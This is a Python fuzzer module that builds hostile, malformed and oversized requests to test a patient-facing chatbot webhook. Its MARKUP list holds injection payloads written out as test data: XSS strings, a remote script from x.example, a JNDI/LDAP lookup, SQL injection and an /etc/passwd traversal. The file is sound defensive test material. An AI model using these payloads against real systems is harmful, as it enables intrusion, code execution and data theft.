"""The fuzzer's requests: hostile, odd or broken bodies a public webhook must survive.

Case i depends only on (seed, i), so a run of N cases is the first N of a longer run with the
same seed, whatever the concurrency: `make test`'s 500-case slice is a prefix of `make fuzz`.
"""

from __future__ import annotations

import json
import random
from collections.abc import Callable
from dataclasses import dataclass
from typing import Any
from urllib.parse import urlencode

from bench.load import PATIENT_MESSAGES
from isobot.security.limits import MAX_BODY_BYTES, message_too_long

MAX_SENDER_CHARS = 128  # the REST channel's limit (isobot/channels/rest.py); the fuzzer probes both sides

# Code point ranges to draw from: every plane that has assigned characters, never a surrogate
# (U+D800-DFFF cannot be encoded as UTF-8; lone surrogates get their own JSON-escape case).
PLANES = [
    (0x20, 0x7E),
    (0xA0, 0x2FF),
    (0x370, 0x52F),
    (0x590, 0x6FF),
    (0x900, 0x97F),
    (0xE00, 0xE7F),
    (0x1100, 0x11FF),
    (0x2000, 0x2BFF),
    (0x3000, 0x30FF),
    (0x4E00, 0x9FFF),
    (0xAC00, 0xD7A3),
    (0xE000, 0xF8FF),
    (0xFB00, 0xFFFD),
    (0x10000, 0x1FFFF),
    (0x1F300, 0x1FAFF),
    (0x20000, 0x2A6DF),
    (0x30000, 0x3134F),
    (0xE0000, 0xE007F),
    (0xF0000, 0xFFFFD),
    (0x100000, 0x10FFFD),
]
ZERO_WIDTH = ["\u200b", "\u200c", "\u200d", "\u2060", "\ufeff", "\u00ad", "\u034f", "\u180e"]
BIDI = ["\u202a", "\u202b", "\u202c", "\u202d", "\u202e", "\u2066", "\u2067", "\u2068", "\u2069", "\u200e", "\u200f"]
CONTROLS = [chr(c) for c in [*range(0x00, 0x20), 0x7F, *range(0x80, 0xA0)]]
RTL_AND_MIXED = [
    "ظهري يؤلمني",
    "כאב גב תחתון",
    "آکوتان",
    "боль в спине",
    "οσφυαλγία",
    "腰痛",
    "허리 통증",
    "कमर दर्द",
    "ปวดหลัง",
    "аccutane",
    "isotretinоin",
    "Ꭺccutane",
]  # the last three: homoglyphs
MARKUP = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//x.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "javascript:alert(1)",
    "<iframe src=javascript:alert(1)>",
    '"><script>alert(document.cookie)</script>',
    "<scr<script>ipt>alert(1)</script>",
    "{{7*7}}",
    "${7*7}",
    "#{7*7}",
    "${jndi:ldap://x.example/a}",
    "%s%s%s%n",
    "{0.__class__}",
    "'; DROP TABLE events; --",
    "1' OR '1'='1",
    "../../../../etc/passwd",
    "\x1b[31mred\x1b[0m",
    "[click](javascript:alert(1))",
    "<!--",
    "]]>",
    "\\u0000",
]
WHITESPACE = ["", " ", "   ", "\n", "\t", "\r\n", "\u00a0", "\u3000", "\u2028", "\u2029", " \n\t \u200b "]
# A red flag at the very end of a huge message must still be read (see README: SafetyGate).
RED_FLAG = "and now i cannot feel my legs"


@dataclass(frozen=True)
class Case:
    index: int
    category: str
    target: str  # "rest" (Rasa's webhook) or "web" (the web server's chat relay)
    body: bytes
    content_type: str | None  # None: no Content-Type header at all
    well_formed: bool  # a valid request: it must get 200 and a non-empty reply
    over_limit: bool = False  # valid, but over the Rasa server's size limits: REST must answer 413


def _sender(rng: random.Random, index: int) -> str:
    return f"fuzz-{index}-{rng.randrange(16**8):08x}"


def _question(rng: random.Random) -> str:
    return rng.choice(PATIENT_MESSAGES)


def _unicode(rng: random.Random, length: int) -> str:
    out = []
    for _ in range(length):
        low, high = rng.choice(PLANES)
        out.append(chr(rng.randint(low, high)))
    return "".join(out)


def _sprinkle(rng: random.Random, text: str, pool: list[str], count: int) -> str:
    chars = list(text)
    for _ in range(count):
        chars.insert(rng.randrange(len(chars) + 1), rng.choice(pool))
    return "".join(chars)


def _json(obj) -> bytes:
    return json.dumps(obj, ensure_ascii=False).encode("utf-8")


# ---------------------------------------------------------------- message text categories
def random_unicode(rng: random.Random) -> str:
    return _unicode(rng, rng.randint(1, 400))


def rtl_and_mixed_scripts(rng: random.Random) -> str:
    parts = [rng.choice(RTL_AND_MIXED) for _ in range(rng.randint(1, 4))] + [_question(rng)]
    rng.shuffle(parts)
    return _sprinkle(rng, " ".join(parts), BIDI, rng.randint(0, 6))


def zero_width_and_control(rng: random.Random) -> str:
    return _sprinkle(rng, _question(rng), ZERO_WIDTH + CONTROLS, rng.randint(1, 40))


def huge(rng: random.Random) -> str:
    size = rng.choice([20_000, 25_000, 100_000])
    filler = rng.choice(["blah ", "my back hurts ", _unicode(rng, 50), "😭", "a"])
    text = (_question(rng) + " " + filler * (size // len(filler) + 1))[:size]
    return text[: size - len(RED_FLAG)] + RED_FLAG if rng.random() < 0.3 else text


def empty_or_whitespace(rng: random.Random) -> str:
    return "".join(rng.choice(WHITESPACE) for _ in range(rng.randint(0, 3)))


def markup_and_injection(rng: random.Random) -> str:
    payload = rng.choice(MARKUP)
    return rng.choice([payload, f"{_question(rng)} {payload}", f"{payload} {_question(rng)} {payload}"])


def normal_question(rng: random.Random) -> str:
    return _question(rng)


TEXT_CATEGORIES: dict[str, Callable[[random.Random], str]] = {
    "random_unicode": random_unicode,
    "rtl_mixed_scripts": rtl_and_mixed_scripts,
    "zero_width_control": zero_width_and_control,
    "huge": huge,
    "empty_whitespace": empty_or_whitespace,
    "markup_injection": markup_and_injection,
    "normal_question": normal_question,
}


# ---------------------------------------------------------------- broken request categories
def malformed_json(rng: random.Random, sender: str) -> bytes:
    good = json.dumps({"sender": sender, "message": _question(rng)})
    return rng.choice(
        [
            good[: rng.randrange(1, len(good))].encode(),  # truncated
            good.replace("}", ",}").encode(),  # trailing comma
            good.replace('"', "'").encode(),  # single quotes
            b'{"sender": "' + sender.encode() + b'", "message": NaN}',
            b'{"sender": "' + sender.encode() + b'", "message": Infinity}',
            b"[" * 100_000 + b"]" * 100_000,  # nesting deeper than any parser's stack
            b'{"a":' * 5_000 + b"1" + b"}" * 5_000,
            b"\xef\xbb\xbf" + good.encode(),  # UTF-8 byte order mark
            b"",
            b"null garbage",
            good.encode() + b"\x00",
            good.encode() * 2,
        ]
    )


def not_an_object(rng: random.Random, sender: str) -> bytes:
    return _json(rng.choice([[sender, _question(rng)], "hello", 42, 3.14, None, True, [], [{"sender": sender}]]))


def wrong_types(rng: random.Random, sender: str) -> bytes:
    odd = [None, 0, -1, 10**40, 1.5e308, True, False, [], ["a"], {}, {"text": "hi"}, ""]
    body: dict[str, Any] = {"sender": sender, "message": _question(rng)}
    field = rng.choice(["sender", "message", "both", "metadata", "input_channel", "extra"])
    if field in ("sender", "both"):
        body["sender"] = rng.choice(odd)
    if field in ("message", "both"):
        body["message"] = rng.choice(odd)
    if field == "metadata":
        body["metadata"] = rng.choice([*odd, {"a": {"b": [1, 2, {"c": None}]}}])
    if field == "input_channel":
        body["input_channel"] = rng.choice([*odd, "socketio", "../../x", "x" * 10_000])
    if field == "extra":
        body[_unicode(rng, 20)] = _unicode(rng, 20)
    if rng.random() < 0.2:
        del body["sender"]
    return _json(body)


def huge_sender(rng: random.Random, sender: str) -> bytes:
    length = rng.choice([MAX_SENDER_CHARS, MAX_SENDER_CHARS + 1, 1_000, 100_000])
    return _json({"sender": (sender + _unicode(rng, 20) * length)[:length], "message": _question(rng)})


def non_utf8(rng: random.Random, sender: str) -> bytes:
    prefix = b'{"sender": "' + sender.encode() + b'", "message": "'
    return rng.choice(
        [
            prefix + "mal de dos é fort".encode("latin-1") + b'"}',
            prefix + b"\xff\xfe\xfd" + b'"}',
            prefix + b"\xc0\xaf\xe0\x80\xaf" + b'"}',  # overlong encodings
            prefix + b"\xed\xa0\x80" + b'"}',  # a surrogate encoded as UTF-8
            json.dumps({"sender": sender, "message": _question(rng)}).encode("utf-16"),
            b'{"sender": "' + sender.encode() + b'", "message": "\\ud800 lone surrogate"}',
            b'{"sender": "\\udfff' + sender.encode() + b'", "message": "hi"}',
            bytes(rng.randrange(256) for _ in range(rng.randint(1, 2_000))),
        ]
    )


REQUEST_CATEGORIES: dict[str, Callable[[random.Random, str], bytes]] = {
    "malformed_json": malformed_json,
    "not_an_object": not_an_object,
    "wrong_types": wrong_types,
    "huge_sender": huge_sender,
    "non_utf8": non_utf8,
}
WRONG_CONTENT_TYPES = [
    None,
    "text/plain",
    "application/xml",
    "multipart/form-data",
    "application/json; charset=latin-1",
    "application/x-www-form-urlencoded",
    "*/*",
    "application/json" + "x" * 1_000,
]

# Relative weights: mostly message text (the everyday attack surface), then broken requests.
WEIGHTS = {
    "random_unicode": 14,
    "rtl_mixed_scripts": 8,
    "zero_width_control": 10,
    "huge": 3,
    "empty_whitespace": 6,
    "markup_injection": 10,
    "normal_question": 6,
    "malformed_json": 8,
    "not_an_object": 5,
    "wrong_types": 10,
    "huge_sender": 4,
    "non_utf8": 6,
    "wrong_content_type": 6,
    "form_encoded": 4,
}


def case(seed: int, index: int, web_share: float = 0.0) -> Case:
    rng = random.Random(f"{seed}:{index}")
    category = rng.choices(list(WEIGHTS), weights=list(WEIGHTS.values()))[0]
    sender = _sender(rng, index)
    over_limit = False
    content_type: str | None
    if category in TEXT_CATEGORIES:
        text = TEXT_CATEGORIES[category](rng)
        body = json.dumps({"sender": sender, "message": text}, ensure_ascii=rng.random() < 0.3).encode()
        over_limit = len(body) > MAX_BODY_BYTES or message_too_long(text)
        content_type, well_formed = "application/json", not over_limit
    elif category in REQUEST_CATEGORIES:
        body, content_type, well_formed = REQUEST_CATEGORIES[category](rng, sender), "application/json", False
    elif category == "wrong_content_type":
        body = json.dumps({"sender": sender, "message": _question(rng)}).encode()
        content_type, well_formed = rng.choice(WRONG_CONTENT_TYPES), False
    else:  # form_encoded
        body = urlencode({"sender": sender, "message": _question(rng)}).encode()
        content_type, well_formed = "application/x-www-form-urlencoded", False
    target = "web" if rng.random() < web_share else "rest"
    return Case(index, category, target, body, content_type, well_formed, over_limit)
